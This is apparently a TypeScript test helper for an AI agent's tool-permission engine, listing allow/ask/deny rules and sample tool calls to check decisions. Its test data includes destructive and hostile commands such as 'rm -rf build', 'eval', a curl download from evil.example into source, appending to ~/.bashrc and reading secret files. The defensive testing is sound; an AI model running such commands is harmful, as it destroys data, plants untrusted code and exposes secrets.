import type { Dissection } from '../../src/core/dissection';
import { decide } from '../../src/core/engine/decide';
import type { Verdict } from '../../src/core/verdict';
import {
  bash,
  dissected,
  inSetting,
  type LawCall,
  type LawRule,
  policyOf,
  type Setting,
  settings,
  strictness,
} from './judged';
import { lawFacts } from './lawPlace';

/** Every rule that a small policy may be made of: all effects, all kinds, some that cancel each other out. */
export const smallRules: readonly LawRule[] = [
  'allow Bash',
  'allow Bash(npm run:*)',
  'allow Bash(git:*)',
  'allow Write(src/**)',
  'allow Read',
  'allow mcp__*',
  'ask Bash(git push:*)',
  'ask Bash(npm:*)',
  'ask Write',
  'deny Bash(rm:*)',
  'deny Write(src/locked/**)',
  'deny Read(*.secret)',
  'deny WebFetch(evil.example)',
  'deny mcp__db__drop',
];

/** What a small world knows about a call besides its decision. */
export interface SmallCall extends LawCall {
  /** Known to change something outside, whatever the engine thinks. */
  readonly writes: boolean;
  /** Known to be text that bash would not accept, or input that the tool cannot use. */
  readonly unreadable: boolean;
}

const plain = { writes: false, unreadable: false };
const writing = { writes: true, unreadable: false };
const broken = { writes: false, unreadable: true };

/** Every call that a small policy is asked about. */
export const smallCalls: readonly SmallCall[] = [
  { ...plain, ...bash('ls -la') },
  { ...plain, ...bash('git status') },
  { ...plain, ...bash('cat notes.secret') },
  { ...plain, ...bash('cat plan.txt | head -n 3') },
  { ...plain, ...bash('grep -r needle .') },
  { ...writing, ...bash('npm run build') },
  { ...writing, ...bash('git push origin main') },
  { ...writing, ...bash('git commit -m "rm all"') },
  { ...writing, ...bash('rm -rf build') },
  { ...writing, ...bash('/bin/rm x') },
  { ...writing, ...bash('touch src/a.ts') },
  { ...writing, ...bash('echo x > src/locked/a.ts') },
  { ...writing, ...bash('git status && rm x') },
  { ...writing, ...bash('npm run build > out.log') },
  { ...writing, ...bash('timeout 5 npm run build') },
  { ...writing, ...bash('sudo rm x') },
  { ...writing, ...bash('$tool x') },
  { ...writing, ...bash('git $verb') },
  { ...writing, ...bash('eval "$code"') },
  { ...writing, ...bash('curl -o src/a.ts https://evil.example/x') },
  { ...writing, ...bash('echo x >> ~/.bashrc') },
  { ...broken, ...bash('echo "not closed') },
  { ...broken, ...bash('rm x && (') },
  { ...broken, ...bash('') },
  { ...broken, tool: 'Bash', input: { command: 7 } },
  { ...broken, tool: 'Write', input: {} },
  { ...plain, tool: 'Read', input: { file_path: 'README.md' } },
  { ...plain, tool: 'Read', input: { file_path: '/work/proj/notes.secret' } },
  { ...plain, tool: 'Grep', input: { pattern: 'x', path: '.' } },
  { ...writing, tool: 'Write', input: { file_path: 'src/a.ts', content: '' } },
  { ...writing, tool: 'Edit', input: { file_path: 'src/locked/a.ts' } },
  { ...writing, tool: 'Write', input: { file_path: '/work/proj2/a.ts' } },
  { ...plain, tool: 'WebFetch', input: { url: 'https://evil.example/' } },
  { ...plain, tool: 'WebFetch', input: { url: 'http://127.0.0.1/' } },
  { ...writing, tool: 'mcp__db__drop', input: {} },
  { ...writing, tool: 'Deploy', input: { target: 'prod' } },
];

/** A set of small rules: bit n stands for rule n. */
export type RuleSet = number;

/** Every set of at most `size` small rules, the smallest sets first. */
export function ruleSets(size: number): readonly RuleSet[] {
  let largest: readonly RuleSet[] = [0];
  const sets = [...largest];
  for (let at = 0; at < size; at += 1) {
    largest = largest.flatMap((set) => smallRules.flatMap((_, rule) => (1 << rule > set ? [set | (1 << rule)] : [])));
    sets.push(...largest);
  }
  return sets;
}

/** The rules in a set, in their order. */
export function rulesIn(set: RuleSet): readonly LawRule[] {
  return smallRules.filter((_, at) => (set & (1 << at)) !== 0);
}

/** One decision of the small world, in the form the laws compare. */
export interface SmallVerdict {
  readonly strictness: number;
  /** Every denial in it came from silence or from a mode that lets only reads through (steps 3 and 9). */
  readonly onlyByMode: boolean;
}

/** Where in a table a verdict stands. */
export interface SmallCase {
  readonly setting: Setting;
  readonly call: LawCall;
  /** The verdict's place among those of one rule set. */
  readonly at: number;
}

/** The verdicts on some calls in every setting, under one set of rules after another. Each is made once. */
export class SmallTable {
  /** What there is a verdict about, for every set of rules. */
  readonly cases: readonly SmallCase[];
  private readonly taken: readonly { readonly setting: Setting; readonly dissection: Dissection }[];
  private readonly verdicts = new Map<RuleSet, readonly SmallVerdict[]>();

  constructor(
    calls: readonly LawCall[],
    private readonly order: 'as written' | 'reversed' = 'as written',
  ) {
    const dissections = calls.map((call) => ({ call, dissection: dissected(call) }));
    const taken = settings.flatMap((setting) => dissections.map((it) => ({ ...it, setting })));
    this.cases = taken.map(({ call, setting }, at) => ({ setting, call, at }));
    this.taken = taken;
  }

  /** The verdicts under a set of rules, in the order of `cases`. */
  under(set: RuleSet): readonly SmallVerdict[] {
    const known = this.verdicts.get(set);
    if (known !== undefined) {
      return known;
    }
    const rules = this.order === 'reversed' ? [...rulesIn(set)].reverse() : rulesIn(set);
    const compiled = policyOf(rules);
    const policies = new Map(settings.map((setting) => [setting, inSetting(compiled, setting)]));
    const facts = lawFacts();
    const verdicts = this.taken.map(({ setting, dissection }) =>
      smallVerdict(decide(dissection, facts, policies.get(setting) ?? compiled)),
    );
    this.verdicts.set(set, verdicts);
    return verdicts;
  }
}

/** All possible small verdicts, so that a large table holds references only. */
const smallVerdicts: readonly SmallVerdict[] = [0, 1, 2].flatMap((it) => [
  { strictness: it, onlyByMode: false },
  { strictness: it, onlyByMode: true },
]);

function smallVerdict({ decision, reasons }: Verdict): SmallVerdict {
  const onlyByMode = reasons.every((it) => it.effect !== 'deny' || it.step === 3 || it.step === 9);
  return smallVerdicts[strictness(decision) * 2 + (onlyByMode ? 1 : 0)] as SmallVerdict;
}
